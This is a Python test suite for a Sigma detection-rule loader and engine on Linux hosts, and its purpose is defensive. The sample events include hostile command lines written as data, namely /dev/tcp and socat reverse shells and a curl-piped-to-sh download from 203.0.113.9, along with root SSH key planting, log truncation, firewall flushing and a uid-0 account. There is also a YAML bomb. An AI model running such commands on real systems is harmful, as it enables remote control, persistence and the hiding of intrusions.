"""Every rule of a folder is in the program or refused with its file and the reason."""

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.rules import Engine, Event
from collector import shipped
from collector.classes import read_classes
from collector.sigma import Loaded, load_rules
from collector.sigma.load import MAX_BYTES

TABLE = shipped.configs_dir() / "classes.yaml"
CLASSES = read_classes(TABLE.read_text("utf-8"), str(TABLE)).by_code
GOOD = """
title: netcat
id: 0b2f7f5e-0000-4c1b-9a55-6a4b0f3c1d01
logsource: {product: linux, category: process_creation}
detection: {one: {Image|endswith: /nc}, condition: one}
level: high
"""


def load(folder: Path, **files: str) -> Loaded:
    for name, text in files.items():
        (folder / f"{name}.yml").write_text(text)
    return load_rules([folder], CLASSES)


def test_every_shipped_rule_loads_and_speaks_both_languages() -> None:
    loaded = load_rules([shipped.configs_dir() / "sigma"], CLASSES)

    assert loaded.refused == ()
    assert len(loaded.rules) == len(list((shipped.configs_dir() / "sigma").glob("*.yml")))
    assert all(rule.title and rule.title_zh for rule in loaded.rules)
    assert len({rule.id for rule in loaded.rules}) == len(loaded.rules)


SHIPPED = {rule.title: rule for rule in load_rules([shipped.configs_dir() / "sigma"], CLASSES).rules}
SAMPLES = [
    (
        "Reverse shell in one line",
        {"Image": "/usr/bin/bash", "CommandLine": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"},
        {"Image": "/usr/bin/bash", "CommandLine": "bash -c ls /dev/tty"},
    ),
    (
        "Web server starts a shell",
        {"Image": "/usr/bin/dash", "CommandLine": "sh -c id", "ParentImage": "/usr/sbin/php-fpm8.2"},
        {"Image": "/usr/bin/dash", "CommandLine": "sh -c id", "ParentImage": "/usr/sbin/sshd"},
    ),
    (
        "Download piped into an interpreter",
        {"Image": "/bin/bash", "CommandLine": "bash -c curl -fsSL http://203.0.113.9/x.sh | sh"},
        {"Image": "/bin/bash", "CommandLine": "bash -c curl -o page.html http://intranet/ | less"},
    ),
    (
        "Coin miner by its command line",
        {"Image": "/tmp/x", "CommandLine": "x -o stratum+tcp://pool:3333 -u w"},
        {"Image": "/usr/bin/curl", "CommandLine": "curl tcp://pool"},
    ),
    (
        "Command history or logs cleared by a command",
        {"Image": "/usr/bin/truncate", "CommandLine": "truncate -s0 /var/log/auth.log"},
        {
            "Image": "/usr/bin/rm",
            "CommandLine": "rm /var/log/auth.log.4",
            "ParentImage": "/usr/sbin/logrotate",
        },
    ),
    (
        "Firewall or mandatory access control switched off",
        {"Image": "/usr/sbin/nft", "CommandLine": "nft flush ruleset"},
        {"Image": "/usr/sbin/nft", "CommandLine": "nft list ruleset"},
    ),
    (
        "Key, cron job or service planted by a shell",
        {"Image": "/bin/sh", "CommandLine": "sh -c echo ssh-ed25519 A >> /root/.ssh/authorized_keys"},
        {"Image": "/bin/sh", "CommandLine": "sh -c cat /root/.ssh/authorized_keys"},
    ),
    (
        "Hidden program run from a scratch folder",
        {"Image": "/dev/shm/kworker", "CommandLine": "[kworker]"},
        {"Image": "/tmp/build/a.out", "CommandLine": "./a.out"},
    ),
    (
        "Script file appears in a scratch folder or is hidden",
        {"TargetFilename": "/tmp/c.php"},
        {"TargetFilename": "/tmp/phpA1b2C3"},
    ),
    (
        "Loader or privilege file written",
        {"TargetFilename": "/etc/ld.so.preload"},
        {"TargetFilename": "/etc/sudoers.d/README.dpkg-new"},
    ),
    (
        "Account with number 0 or a place in a privileged group",
        {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -o -u 0 toor"},
        {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -m li"},
    ),
    # What looks like it and is an ordinary day's work.
    (
        "Reverse shell in one line",
        {
            "Image": "/usr/bin/bash",
            "CommandLine": "bash -c 0<&196;exec 196<>/dev/tcp/1.1.1.1/44; sh <&196 >&196",
        },
        {"Image": "/usr/bin/bash", "CommandLine": "timeout 1 bash -c </dev/tcp/db.intranet/5432"},
    ),
    (
        "Reverse shell in one line",
        {"Image": "/usr/bin/socat1", "CommandLine": "socat TCP:203.0.113.9:4444 EXEC:sh,pty"},
        {
            "Image": "/usr/bin/bash",
            "CommandLine": "bash -c exec 3<>/dev/tcp/127.0.0.1/9000;echo -e 'GET / '>&3",
        },
    ),
    (
        "Web server starts a shell",
        {"Image": "/usr/bin/whoami", "CommandLine": "whoami", "ParentImage": "/usr/bin/node"},
        {"Image": "/usr/bin/dash", "CommandLine": "sh -c next start", "ParentImage": "/usr/bin/node"},
    ),
    (
        "Script file appears in a scratch folder or is hidden",
        {"TargetFilename": "/dev/shm/c.jsp"},
        {"TargetFilename": "/tmp/libnetty_transport_native_epoll_x86_64.so"},
    ),
    (
        "Account with number 0 or a place in a privileged group",
        {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -m -G adm,sudo li"},
        {"Image": "/usr/sbin/useradd", "CommandLine": "useradd -m -g users rootless"},
    ),
]


@pytest.mark.parametrize(("title", "bad", "good"), SAMPLES, ids=[sample[0] for sample in SAMPLES])
def test_a_shipped_rule_finds_its_sample_and_leaves_an_innocent_one_alone(
    title: str, bad: dict[str, str], good: dict[str, str]
) -> None:
    rule = SHIPPED[title]
    engine = Engine([rule])

    assert [match.rule.title for match in engine.matches(Event(rule.log, bad), 0.0)] == [title]
    assert engine.matches(Event(rule.log, good), 0.0) == []


def test_every_shipped_rule_has_its_samples() -> None:
    assert {sample[0] for sample in SAMPLES} == set(SHIPPED)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (("category: process_creation", "category: dns_query"), "logsource.category 'dns_query'"),
        (("product: linux", "product: windows"), "nodes are Linux hosts"),
        (("Image|endswith", "Hashes"), "field 'Hashes'"),
        (("condition: one", "condition: two"), "two"),
        (("Image|endswith", "Image|wrong"), "wrong"),
        (("level: high", "level: dire"), "dire"),
        (("level: high", "fengsui_class: NONE"), "fengsui_class"),
        (("title: netcat", "title: [a"), ""),
        (("logsource:", "other:"), ""),
    ],
)
def test_what_no_node_can_do_is_refused_with_file_and_reason(
    tmp_path: Path, change: tuple[str, str], why: str
) -> None:
    loaded = load(tmp_path, good=GOOD.replace("0000", "0001"), bad=GOOD.replace(*change))

    assert [rule.title for rule in loaded.rules] == ["netcat"]
    assert {Path(one.file).name for one in loaded.refused} == {"bad.yml"}
    assert why in str(loaded.refused[0])


def test_a_correlation_is_refused_and_not_ignored(tmp_path: Path) -> None:
    correlation = """
title: many
correlation: {type: event_count, rules: [netcat], group-by: [User], timespan: 5m, condition: {gte: 9}}
"""
    loaded = load(tmp_path, many=correlation)

    assert loaded.rules == ()
    assert "a correlation" in str(loaded.refused[0])


def test_the_operators_rule_replaces_the_shipped_one_of_its_id(tmp_path: Path) -> None:
    one, two = tmp_path / "shipped", tmp_path / "own"
    for folder, text in ((one, GOOD), (two, GOOD.replace("level: high", "level: low"))):
        folder.mkdir()
        (folder / "r.yml").write_text(text)

    (rule,) = load_rules([one, two], CLASSES).rules
    assert rule.severity == "low"


def test_large_files_other_encodings_and_bombs_are_refused(tmp_path: Path) -> None:
    (tmp_path / "large.yml").write_bytes(b"x" * (MAX_BYTES + 1))
    (tmp_path / "latin.yml").write_bytes(b"title: \xff")
    bomb = "a: &a [x]\n" + "".join(f"b{i}: &b{i} [*a, *a, *a, *a, *a]\n" for i in range(20))
    (tmp_path / "bomb.yml").write_text(bomb)
    (tmp_path / "deep.yml").write_text("a: " + "[" * 5000)

    loaded = load_rules([tmp_path], CLASSES)

    assert loaded.rules == ()
    assert {Path(one.file).stem for one in loaded.refused} == {"large", "latin", "bomb", "deep"}


@given(text=st.text(max_size=200))
def test_no_text_is_more_than_refused(text: str, tmp_path_factory: pytest.TempPathFactory) -> None:
    folder = tmp_path_factory.mktemp("rules")
    (folder / "r.yml").write_text(text, "utf-8", errors="surrogatepass")

    assert load_rules([folder], CLASSES).rules == ()
